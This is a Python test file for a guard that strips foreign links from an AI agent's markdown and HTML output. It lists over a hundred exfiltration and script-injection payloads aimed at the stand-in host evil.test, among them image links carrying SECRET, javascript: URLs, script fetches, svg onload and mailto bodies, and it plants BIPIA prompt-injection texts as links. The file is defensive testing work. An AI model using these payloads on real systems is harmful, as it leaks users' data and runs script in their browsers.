"""Links: whatever is written, nothing that a renderer makes of the filtered text leaves the house.

The oracle is a real renderer, markdown-it with HTML passed through and no check of addresses, and a
real HTML parser; what they make a link of is read as browsers read it (WHATWG URL, 4.4).
"""

import json
import re
from collections.abc import Iterator
from itertools import product
from pathlib import Path
from urllib.parse import unquote, urljoin, urlsplit

import lxml.html
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rostra.agents.guard import ForeignLinks, hosts_in

ROOT = Path(__file__).parents[4]
BIPIA = ROOT.parent / "shared" / "data" / "security" / "bipia"

HOME = "https://home.test/answers/1"
CLEAN = ForeignLinks(frozenset({"good.test", ".docs.test"}))
ALLOWED = {"home.test", "good.test"}
# GFM, spec 6.9: what an extended autolink begins with; linkify-it takes `//` too.
LITERAL = re.compile(
    r"(?:(?:https?|ftp)://(?=\w)|(?<![:/])//(?=\w+\.\w)|(?<![a-z0-9])www\.(?=[-\w]))[^\s<]*"
    r"|(?:mailto|xmpp):[^\s<@]+@[^\s<]+",
    re.IGNORECASE,
)
LOADING = {
    *("href", "src", "srcset", "action", "formaction", "background", "poster", "data", "cite"),
    *("longdesc", "ping", "style", "content", "manifest", "xlink:href", "onload"),
}


def renderer() -> MarkdownIt:
    markdown = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    markdown.validateLink = lambda url: True  # type: ignore[method-assign]
    return markdown


MARKDOWN = renderer()


def destinations(text: str) -> Iterator[str]:
    """Where what a page shows of the text goes to, literal addresses included."""
    for page in (MARKDOWN.render(text), text):
        try:
            tree = lxml.html.fragment_fromstring(page, create_parent="div")
        except (lxml.etree.LxmlError, ValueError):
            continue  # nothing is left of it
        for node in tree.iter():
            if not isinstance(node.tag, str):
                continue
            if node.tag in ("script", "style"):
                yield "javascript:x"
            for name, value in node.attrib.items():
                if name.lower() in LOADING:
                    yield str(value)
    for block in MARKDOWN.parse(text):
        for token in block.children or ():
            for found in LITERAL.finditer(token.content if token.type == "text" else ""):
                # No name ends in these, so none that ends in them can be had.
                address = found[0].rstrip(".,;:!?'\")}]*_~")
                yield f"http://{address}" if address[:4].lower() == "www." else address


def leaves(destination: str) -> bool:
    """As a browser resolves it: is it another host, or a scheme that is not the web's?"""
    plain = re.sub(r"[\t\n\r]", "", destination.strip("".join(map(chr, range(33)))))
    scheme = re.match(r"[a-z][a-z0-9+.-]*:", plain, re.IGNORECASE)
    if scheme and scheme[0].lower() not in ("http:", "https:"):
        return "?" in plain if scheme[0].lower() == "mailto:" else plain != scheme[0]
    plain = re.sub(r"^[^?#]*", lambda path: path[0].replace("\\", "/"), plain)
    if scheme:
        # The web's schemes need no slashes and take any number of them.
        plain = re.sub(r"^(https?:)/*", r"\1//", plain, flags=re.IGNORECASE)
    else:
        plain = re.sub(r"^/{2,}", "//", plain)
    try:
        host = unquote(urlsplit(urljoin(HOME, plain)).hostname or "")
    except ValueError:
        return False  # no address at all
    # No browser takes these for part of a name.
    named = not set(host) & set(" #/<>?@[\\]^|")
    return named and host not in ALLOWED and not host.endswith(".docs.test")


def foreign(text: str) -> list[str]:
    return [each for each in destinations(text) if leaves(each)]


def cleaned(text: str) -> str:
    return CLEAN(text).text


EVIL = "https://evil.test/p?q=SECRET"
ATTACKS = [
    f"[click]({EVIL})",
    f"![x]({EVIL})",
    f'![x](<{EVIL}> "title")',
    f"![x](\n  {EVIL}\n  'title'\n)",
    f"> ![x](\n> {EVIL})",
    f"[![alt]({EVIL})]({EVIL})",
    f"[a [b] c]({EVIL})",
    f"[a\\]b]({EVIL})",
    f"<{EVIL}>",
    f"<HTTPS:{EVIL[6:]}>",
    f"[foo]\n\n[foo]: {EVIL}",
    "[foo]\n\n[foo]: //evil.test/x",
    "![foo][]\n\n[foo]:\n   <//evil.test/x>\n   'title'",
    "> [foo]\n>\n> [foo]:\n> //evil.test/x",
    "- [foo]: javascript:alert(1)\n- [foo]",
    "[fo\no]: //evil.test\n\n[fo o]",
    "[x](//evil.test)",
    "[x](/\\evil.test)",
    "[x](\\\\\\\\evil.test)",
    "[x](\\/\\/evil.test)",
    "[x](&sol;&sol;evil.test)",
    "[x](&#47;&#x2f;evil.test)",
    "[x](https&colon;//evil.test)",
    "[x](https&#58;&sol;&sol;evil.test)",
    "[x](https:evil.test)",
    "[x](https:/evil.test)",
    "[x](https:\\evil.test)",
    "[x](ht\ttps://evil.test)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert`1`)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](<javascript: alert(1)>)",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<javascript:alert(1)>",
    "<mailto:me@evil.test?body=SECRET>",
    "mailto:me@evil.test?body=SECRET",
    "<img src=https://evil.test/x>",
    "<img src='//evil.test/x'>",
    '<IMG\nSRC\n=\n"//evil.test/x"\n>',
    "<img/src=//evil.test>",
    '<img alt=">" src=//evil.test>',
    "<img <x src=//evil.test>",
    "<x<y style=background:url(//evil.test)>",
    "<x<style=background:url(//evil.test)>",
    "<img src=//evil.test/x ",
    '<a href="&#104;ttps://evil.test">x</a>',
    '<a\x0chref="https://evil.test">x</a>',
    '<p style="background:url(//evil.test)">',
    "<style>@import url(//evil.test)</style>",
    "<script>fetch('//evil.test')</script>",
    "<svg><image xlink:href='//evil.test'/></svg>",
    "<svg/onload=fetch('//evil.test')>",
    "<base href='//evil.test'>[x](y)",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<input type=image src=//evil.test>",
    "<!-- --><img src=//evil.test>",
    "<!--><img src=//evil.test>-->",
    "```\n<img src=//evil.test>\n```",
    "www.evil.test/?q=SECRET",
    "(www.evil.test)",
    "*www.evil.test*",
    EVIL,
    f"({EVIL})",
    f"**{EVIL}**",
    EVIL.upper(),
    "ftp://evil.test/x",
    "https\\://evil.test",
    "https&colon;//evil.test",
    "h&#116;tps://evil.test",
    "https://good.test@evil.test/",
    "https://good.test:pass@evil.test/",
    "https://good.test\\@evil.test/",
    "https://good.test\\.evil.test/",
    'https://good.test".evil.test/',
    "https://good.test).evil.test/",
    "https://good.test>@evil.test/",
    "https://good.test](x@evil.test",
    "https://good.test/](//evil.test",
    "https://good.test,.evil.test/",
    "https://good.test%2eevil.test/",
    "https://good.test。evil.test/",
    "https://good.test．evil.test/",
    "https://good.test&period;evil.test/",
    "https://good.test.evil.test/",
    "https://evilgood.test/",
    "https://xgood.test/",
    "[x](https://good.test@evil.test/)",
    "[x](https://good.test&commat;evil.test/)",
    '[x](https://good.test".evil.test/)',
    "[x](https://good.test\\).evil.test/)",
    "[x](https://good.test&period;evil.test/)",
    "[x](<https://good.test .evil.test/>)",
    "![x](／／evil.test)",
    "[x](\u00a0//evil.test)",
    "[x](\u200b//evil.test)",
    "[x](&#1;//evil.test)",
    "[x](http://[::1]/)",
    "[x](http://2130706433/)",
    "[a](https://good.test/[b](//evil.test))",
    "[(//evil.test)](https://evil.test)[x](y)",
    "[x][(//evil.test)](https://evil.test)",
    "[^1]: [x]: //evil.test\n\n[x]",
    "| a |\n|---|\n| ![x](//evil.test) |",
    "# ![x](//evil.test)",
    "1. ![x]( //evil.test )",
    "![x](//evil.test\n)",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_is_rendered_leaves(attack: str) -> None:
    assert foreign(cleaned(attack)) == []


def test_the_oracle_sees_what_leaves() -> None:
    """Most of the attacks are real ones, and harmless links are none."""
    seen = [attack for attack in ATTACKS if foreign(attack)]
    assert len(seen) > 0.8 * len(ATTACKS)
    assert not foreign("[x](/a) [y](#b) <https://good.test/> ![z](https://a.docs.test/i.png)")


@pytest.mark.parametrize(
    "text",
    [
        "[x](/a/b?c=d&e=f#g) [y](#b) [z](page.html) [größe](größe.md)",
        "[x](https://good.test/a_(b)?c=d) and https://good.test. And (https://good.test/x).",
        "![x](https://a.docs.test/i.png 'title') <https://good.test/a>",
        "[foo]: https://good.test/x 'title'\n\n[foo]",
        "[foo]\n\n[foo]: /relative",
        "www.a.docs.test/x",
        "Write to jane@example.test, or <jane@example.test>.",
        "if a[0]: return b[i](c) and x < y > z; List<String> -> <br/> <b>bold</b>",
        "postgresql://localhost/db is a connection string; std::vector<int> v; C:\\dir\\file",
        "array[1]: value\nnot_a_host.py:12 and main.py and README.md#part",
        "10 // 3 == 3 // a comment\n//also one",
        "a <= b, c << 2, 1 <2, <3",
    ],
)
def test_what_stays_in_the_house_stays_as_it_is(text: str) -> None:
    assert CLEAN(text) == (text, (), ((0, 0, len(text)),))


def test_what_is_removed_is_said_and_the_rest_is_readable() -> None:
    given = f"See [the manual]({EVIL}) or {EVIL}. ![chart](//cdn.evil.test/c.png) Bye <b>now</b>."
    text, findings, _ = CLEAN(given)
    assert text == (
        "See the manual ⟨link to evil[.]test removed⟩ or ⟨link to evil[.]test removed⟩. "
        "chart ⟨image from cdn[.]evil[.]test removed⟩ Bye <b>now</b>."
    )
    assert set(findings) == {"links: link to evil.test", "links: image from cdn.evil.test"}


def test_code_loses_nothing_but_gains_a_space() -> None:
    code = "x = f\"<div class='a'>\" # std <std::string>"
    assert cleaned(code).replace(" ", "") == code.replace(" ", "")


def test_hosts_that_a_user_names() -> None:
    task = "Compare https://Docs.Test/a with http://b.test:8080/x, (https://c.test) and d.test"
    assert hosts_in(task) == {"docs.test", "b.test", "c.test"}


PIECES = st.sampled_from(
    [
        *"[]()<>!\\/&;:#?@=\"'`*_~.,- \n\tx0",
        *(
            "](",
            "]:",
            "![",
            "[a]",
            "\n\n",
            "\n> ",
            "\n- ",
            "\n[a]: ",
            "//",
            "/\\",
            "https:",
            "ftp:",
        ),
        *("https://", "HTTP://", "www.", "evil.test", "good.test", "a.docs.test", "javascript:"),
        *("data:", "mailto:", "&colon;", "&sol;", "&#47;", "&#x3a;", "&Tab;", "&NewLine;", "&lt;"),
        *("<a href=", "<img src=", "<img ", "<style>", "<script>", "<!--", "-->", "</a>", "src="),
        *("https://evil.test/x", "//evil.test", "https://good.test", "https://good.test/"),
        *("／／", "：", "。", "\u200b", "\u00a0", "\u202e", "ſ", "%2f", "%5c", "é", "[^1]: "),
    ]
)


@settings(max_examples=1500)
@given(st.lists(PIECES, min_size=1, max_size=24).map("".join))
@example("[x](//evil.test)[a]: //evil.test")
@example("[a](//evil.test)(//evil.test)")
@example("![[a](//evil.test)](//evil.test)")
@example("<https:<a href=ftp:")
@example("www[.evil.test](javascript:x)")
@example("<https:\u00a0(>")
@example("<mailto:a\u00a0@b>")
def test_no_mixture_of_constructs_leaves(text: str) -> None:
    once, _, kept = CLEAN(text)
    assert foreign(once) == []
    assert cleaned(once) == once
    for at, start, length in kept:
        assert once[at : at + length] == text[start : start + length]


@given(st.text(st.characters(exclude_characters="<[]&\\/:."), max_size=200))
def test_plain_text_is_never_touched(text: str) -> None:
    assert cleaned(text) == text


def bipia() -> list[str]:
    files = sorted(BIPIA.glob("text_attack_*.json"))
    return [
        text for file in files for texts in json.loads(file.read_text()).values() for text in texts
    ]


WAYS = ["{0}", "![{0}](https://evil.test/?q={1})", "<img alt='{0}' src=//evil.test/{1}>"]


@pytest.mark.skipif(not BIPIA.is_dir(), reason=f"no attack texts in {BIPIA}")
def test_attack_texts_with_links_at_every_position() -> None:
    """BIPIA's instructions, with what they would have a model send, in a document's words."""
    words = ["The manual says this.", "Vacuum reclaims storage.\n\nIt runs often.", "The end."]
    for attack, way in product(bipia(), WAYS):
        planted = way.format(attack, attack.replace(" ", "%20"))
        for at in range(len(words) + 1):
            text = " ".join([*words[:at], planted, *words[at:]])
            assert foreign(cleaned(text)) == [], text


@pytest.mark.skipif(not BIPIA.is_dir(), reason=f"no attack texts in {BIPIA}")
def test_attack_texts_without_links_are_not_changed() -> None:
    """The filter is about links: words, also bad ones, are for other parts of the guard."""
    for attack in bipia():
        if not foreign(attack):
            assert cleaned(attack) == attack
